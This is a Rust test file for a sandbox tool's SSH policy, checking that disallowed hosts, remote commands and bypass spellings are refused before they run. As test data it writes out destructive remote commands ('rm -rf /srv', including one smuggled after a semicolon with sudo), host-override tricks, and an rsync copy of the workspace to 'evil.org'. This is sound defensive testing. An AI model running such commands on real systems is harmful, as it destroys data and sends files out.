//! SSH policy (`ssh.*`): hosts and remote commands of `ssh`, `scp`, `rsync` and git ssh
//! URLs are checked before anything runs; a refused one exits 126. Fake programs on `PATH`
//! record in the workspace whether they ran.

use crate::commands::{ran, with_fakes};
use crate::util::{self, Sandbox, User};

const POLICY: &str = r#"{"filesystem": {"allowWrite": ["."]},
    "ssh": {"allowedHosts": ["*.example.com", "github.com"], "deniedHosts": ["prod.example.com"],
        "allowedCommands": ["ls", "uptime"], "deniedCommands": ["rm"]}}"#;

fn allowed_runs_and_denied_host_runs_nothing(user: User) {
    let (sb, path) = with_fakes(user, &["ssh", "git", "scp"]);
    let cfg = sb.config("cfg.json", POLICY);
    let sh = |script: &str| sb.fence().env("PATH", &path).sh(&cfg, script).run();
    sh("ssh dev.example.com ls -la && ssh -p 2222 dev.example.com uptime").ok();
    assert_eq!(
        ran(&sb),
        "ssh dev.example.com ls -la\nssh -p 2222 dev.example.com uptime\n"
    );
    let r = sh("ssh dev.example.com ls; ssh prod.example.com ls");
    r.code(126);
    assert_eq!(
        r.stderr,
        "fence: refused \"ssh prod.example.com ls\": host \"prod.example.com\" matches \
         ssh.deniedHosts \"prod.example.com\" (cfg.json)\n",
        "{r}"
    );
    sh("ssh gitlab.com")
        .code(126)
        .stderr_has("host \"gitlab.com\" is not in ssh.allowedHosts");
    // Hostile spellings: a HostName after the destination, a jump host, a wrapper.
    sh("ssh dev.example.com -oHostName=prod.example.com ls").code(126);
    sh("ssh -J prod.example.com dev.example.com").code(126);
    sh("env X=1 sh -c 'ssh prod.example.com'").code(126);
    sh("ssh \"$TARGET\" ls")
        .code(126)
        .stderr_has("is only known when it runs");
    assert_eq!(
        ran(&sb).lines().count(),
        2,
        "nothing more ran: {}",
        ran(&sb)
    );
}

fn remote_commands(user: User) {
    let (sb, path) = with_fakes(user, &["ssh"]);
    let cfg = sb.config("cfg.json", POLICY);
    let sh = |script: &str| sb.fence().env("PATH", &path).sh(&cfg, script).run();
    let r = sh("ssh dev.example.com rm -rf /srv");
    r.code(126);
    assert_eq!(
        r.stderr,
        "fence: refused \"ssh dev.example.com rm -rf /srv\": matches ssh.deniedCommands \
         \"rm\" (cfg.json)\n",
        "{r}"
    );
    sh("ssh dev.example.com 'ls; sudo rm -rf /srv'").code(126);
    sh("ssh dev.example.com git log")
        .code(126)
        .stderr_has("remote command \"git log\" is not in ssh.allowedCommands");
    assert_eq!(ran(&sb), "");
    // The argv form: checked as words.
    sb.fence()
        .env("PATH", &path)
        .args([
            "-s",
            cfg.to_str().unwrap(),
            "--",
            "ssh",
            "dev.example.com",
            "rm",
            "x",
        ])
        .run()
        .code(126)
        .stderr_has("matches ssh.deniedCommands \"rm\"");
    sb.fence()
        .env("PATH", &path)
        .args([
            "-s",
            cfg.to_str().unwrap(),
            "--",
            "ssh",
            "dev.example.com",
            "ls",
        ])
        .run()
        .ok();
    assert_eq!(ran(&sb), "ssh dev.example.com ls\n");
}

fn git_and_scp_urls(user: User) {
    let (sb, path) = with_fakes(user, &["git", "scp", "rsync"]);
    let cfg = sb.config("cfg.json", POLICY);
    let sh = |script: &str| sb.fence().env("PATH", &path).sh(&cfg, script).run();
    sh("git clone git@denied.org:x/y.git")
        .code(126)
        .stderr_has("host \"denied.org\" is not in ssh.allowedHosts");
    sh("git -C . fetch ssh://git@prod.example.com/x")
        .code(126)
        .stderr_has("matches ssh.deniedHosts \"prod.example.com\"");
    sh("scp f prod.example.com:/tmp/").code(126);
    sh("rsync -av . evil.org:x").code(126);
    assert_eq!(ran(&sb), "");
    sh("git clone git@github.com:x/y.git && git fetch origin && scp f dev.example.com:").ok();
    assert_eq!(
        ran(&sb),
        "git clone git@github.com:x/y.git\ngit fetch origin\nscp f dev.example.com:\n"
    );
}

/// An untrusted project config may add denied hosts and commands (it narrows), not allowed
/// hosts or commands (grants).
fn project_config_trust(user: User) {
    let (sb, path) = with_fakes(user, &["ssh"]);
    let user_cfg = sb.home.join(".config/fence/fence.json");
    sb.write(
        &user_cfg,
        &format!(
            r#"{{"filesystem": {{"allowWrite": ["{}"]}}, "ssh": {{"allowAllCommands": true}}}}"#,
            sb.ws.display()
        ),
    );
    sb.config(
        "fence.json",
        r#"{"ssh": {"deniedHosts": ["prod.example.com"]}}"#,
    );
    let run = |args: &[&str]| sb.fence().env("PATH", &path).args(args).run();
    run(&["ssh", "prod.example.com", "ls"])
        .code(126)
        .stderr_has("matches ssh.deniedHosts \"prod.example.com\" (fence.json)");
    run(&["ssh", "dev.example.com", "ls"]).ok();
    assert_eq!(ran(&sb), "ssh dev.example.com ls\n");
    sb.config(
        "fence.json",
        r#"{"ssh": {"allowedHosts": ["*"], "allowedCommands": ["rm"]}}"#,
    );
    run(&["ssh", "dev.example.com", "ls"])
        .code(125)
        .stderr_has("not trusted")
        .stderr_has("ssh.allowedHosts *")
        .stderr_has("ssh.allowedCommands rm");
}

/// A real sshd on 127.0.0.1 (root only: privilege separation, logging in as root): an
/// allowed host and command run there, through fence's SOCKS5 proxy (`ProxyCommand fence
/// --proxy-connect`); a command not in `allowedCommands` and another host are refused
/// before anything runs.
fn real_sshd(user: User) {
    if !util::is_root() {
        // sshd needs root (privilege separation, logging in as another user).
        eprintln!("real sshd: cannot apply: sshd can only be started by root here");
        return;
    }
    let sb = Sandbox::new(user);
    let sshd = util::sshd::Sshd::start(&sb);
    let (port, key, keys) = (sshd.port, sshd.key.clone(), sshd.dir.clone());
    let k = keys.display();
    let cfg = sb.config(
        "cfg.json",
        r#"{"network": {"allowedDomains": ["127.0.0.1"]}, "filesystem": {"allowWrite": ["."]},
            "ssh": {"allowedHosts": ["127.0.0.1"], "allowedCommands": ["echo"]}}"#,
    );
    let ssh = format!(
        "ssh -i {} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
         -o LogLevel=ERROR -o 'ProxyCommand={} --proxy-connect %h %p' -p {port}",
        key.display(),
        util::fence_bin().display()
    );
    let sh = |script: &str| sb.fence().sh(&cfg, script).run();
    let allowed = sh(&format!("{ssh} root@127.0.0.1 echo hello-from-sshd"));
    let refused_cmd = sh(&format!("{ssh} root@127.0.0.1 touch {k}/touched"));
    let refused_host = sh(&format!("{ssh} root@localhost echo x"));
    drop(sshd);
    allowed.ok().stdout_has("hello-from-sshd");
    refused_cmd
        .code(126)
        .stderr_has("is not in ssh.allowedCommands");
    assert!(!keys.join("touched").exists(), "the refused command ran");
    refused_host
        .code(126)
        .stderr_has("host \"localhost\" is not in ssh.allowedHosts");
}

both_users!(
    allowed_runs_and_denied_host_runs_nothing,
    remote_commands,
    git_and_scp_urls,
    project_config_trust,
    real_sshd,
);
